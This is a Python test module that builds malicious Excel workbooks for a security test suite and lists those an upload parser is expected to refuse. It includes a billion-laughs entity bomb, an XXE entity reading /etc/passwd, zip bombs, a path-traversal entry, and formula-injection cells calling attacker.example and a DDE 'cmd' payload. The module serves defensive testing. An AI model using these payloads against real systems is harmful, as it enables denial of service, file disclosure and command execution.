"""Workbooks that unpack to too much, read what they should not, or calculate."""

import io
from collections.abc import Callable, Sequence

import xlsxwriter

from foundation.testing import workbooks as honest
from tests.security.attacks_files.packing import lying_package, package, raw_zeros, unpacked

SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
NAMESPACE = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%b">' % (each, b"&a%d;" % (each - 1) * 10) for each in range(1, 11))
    + b"]>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
Header = Sequence[str]


def changed(header: Header, **parts: bytes) -> bytes:
    """Return a workbook with this header in which `sheet`, `strings` or `book` has been replaced."""
    whole = unpacked(honest.workbook(header, []))
    names = {"sheet": SHEET, "strings": STRINGS, "book": BOOK}
    return package({**whole, **{names[name]: part for name, part in parts.items()}})


def strings(doctype: bytes, texts: Sequence[bytes], counted: int | None = None) -> bytes:
    """Return a table of shared strings."""
    count = len(texts) if counted is None else counted
    items = b"".join(b"<si><t>%b</t></si>" % text for text in texts)
    return doctype + b'<sst %b count="%d" uniqueCount="%d">%b</sst>' % (NAMESPACE, count, count, items)


def sheet(rows: bytes, dimension: bytes = b"A1:B2") -> bytes:
    """Return a sheet with these rows."""
    return b'<worksheet %b><dimension ref="%b"/><sheetData>%b</sheetData></worksheet>' % (
        NAMESPACE,
        dimension,
        rows,
    )


def row(number: int, cells: bytes) -> bytes:
    """Return a row."""
    return b'<row r="%d">%b</row>' % (number, cells)


def titles(header: Header) -> bytes:
    """Return the header as a row of texts in the cells."""
    return row(1, b"".join(b'<c t="inlineStr"><is><t>%b</t></is></c>' % one.encode() for one in header))


def laughing(header: Header) -> bytes:
    """Return a workbook whose texts stand for ten billion laughs."""
    return changed(header, strings=strings(LAUGHS, [one.encode() for one in header] + [b"&a10;"]))


def laughing_cell(header: Header) -> bytes:
    """Return a workbook with the laughs in a cell below the header."""
    cells = b'<c t="inlineStr"><is><t>&a10;</t></is></c>' * len(header)
    return changed(header, sheet=LAUGHS + sheet(titles(header) + row(2, cells)))


def peeping(header: Header) -> bytes:
    """Return a workbook whose cells ask for a file of the server."""
    cells = b'<c t="inlineStr"><is><t>&x;</t></is></c>' * len(header)
    return changed(header, sheet=OUTSIDE + sheet(titles(header) + row(2, cells)))


def greedy_strings(header: Header) -> bytes:
    """Return a workbook that announces four billion texts."""
    return changed(header, strings=strings(b"", [one.encode() for one in header], 2**32 - 1))


def far_columns(header: Header) -> bytes:
    """Return a workbook with a cell in a column that there is not, a million columns away."""
    cells = b'<c r="BDWGN2" t="inlineStr"><is><t>x</t></is></c>'
    return changed(header, sheet=sheet(titles(header) + row(2, cells), b"A1:BDWGN2"))


def wide_rows(header: Header) -> bytes:
    """Return a workbook of 4,000 rows that begin in the first column and end in the last there is."""
    lines = b"".join(
        row(line, b'<c r="A%d"><v>1</v></c><c r="XFD%d"><v>1</v></c>' % (line, line))
        for line in range(2, 4000)
    )
    return changed(header, sheet=sheet(titles(header) + lines))


def boasting(header: Header) -> bytes:
    """Return a workbook whose sheet says that it has seventeen billion cells and has a header."""
    return changed(header, sheet=sheet(titles(header), b"A1:XFD1048576"))


def one_text_many_times(header: Header) -> bytes:
    """Return a workbook in which a text of 32,000 characters stands a hundred thousand times."""
    long = honest.workbook(header, [["长" * 32_000] * len(header)])
    parts = unpacked(long)
    place = parts[SHEET].index(b'<row r="2"')
    end = parts[SHEET].index(b"</row>", place) + 6
    line = parts[SHEET][place:end]
    lines = b"".join(_numbered(line, number) for number in range(3, 20_000))
    return package({**parts, SHEET: parts[SHEET][:end] + lines + parts[SHEET][end:]})


def _numbered(line: bytes, number: int) -> bytes:
    import re

    return re.sub(rb'r="([A-Z]*)2"', rb'r="\g<1>%d"' % number, line)


def deep(header: Header) -> bytes:
    """Return a workbook whose sheet goes a million elements deep."""
    return changed(header, sheet=sheet(b"<a>" * 1_000_000))


def lying(header: Header) -> bytes:
    """Return a workbook whose sheet of ten bytes unpacks to 1.5 GB."""
    return lying_package(unpacked(honest.workbook(header, [])), SHEET, 1500)


def boasting_package(header: Header) -> bytes:
    """Return a workbook that says of itself that it unpacks to 150 MB."""
    return honest.bomb()


def countless_parts(header: Header) -> bytes:
    """Return a workbook of 3,000 parts."""
    return package(
        {**unpacked(honest.workbook(header, [])), **{f"xl/media/{n}.png": b"" for n in range(3000)}}
    )


def climbing_parts(header: Header) -> bytes:
    """Return a workbook with a part that wants to be unpacked elsewhere."""
    return package({**unpacked(honest.workbook(header, [])), "../../../../etc/passwd": b"x"})


def packed_in_itself(header: Header) -> bytes:
    """Return a zip of zips under a workbook's names."""
    inner = package({"a": raw_zeros(50)})
    return package({BOOK: inner, SHEET: inner})


def calculating(header: Header) -> bytes:
    """Return a workbook whose cells are formulas and links, with a value that somebody has calculated."""
    data = io.BytesIO()
    book = xlsxwriter.Workbook(data, {"in_memory": True})
    page = book.add_worksheet()
    page.write_row(0, 0, header)
    for line in range(1, 4):
        for column in range(len(header)):
            page.write_formula(
                line, column, '=WEBSERVICE("https://attacker.example/")', value="=cmd|'/c calc'!A0"
            )
    page.write_url(4, 0, "https://attacker.example/", string="=HYPERLINK()")
    for column in range(1, len(header)):
        page.write_string(4, column, "@SUM(1)")
    book.close()
    return data.getvalue()


# Refused before anybody is looked for in them.
REFUSED: dict[str, Callable[[Header], bytes]] = {
    "no zip": lambda header: b"PK\x03\x04" + bytes(400),
    "zip of something else": lambda header: package({"a.txt": b"x"}),
    "encrypted": lambda header: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "markup": lambda header: b"<html><script>alert(1)</script></html>",
    "150 MB": boasting_package,
    "1.5 GB that says ten bytes": lying,
    "3,000 parts": countless_parts,
    "zips in a zip": packed_in_itself,
    "cell at the other end": honest.far_cell,
    "broken sheet": lambda header: honest.broken(honest.workbook(header, [])),
    "one text many times": one_text_many_times,
    "ten billion laughs in the texts": laughing,
    "ten billion laughs in a cell": laughing_cell,
    "four billion texts": greedy_strings,
    "a million columns": far_columns,
    "seventeen billion cells": boasting,
    "a million elements deep": deep,
    "rows from end to end": wide_rows,
    "file of the server": peeping,
    "part that climbs out": climbing_parts,
}
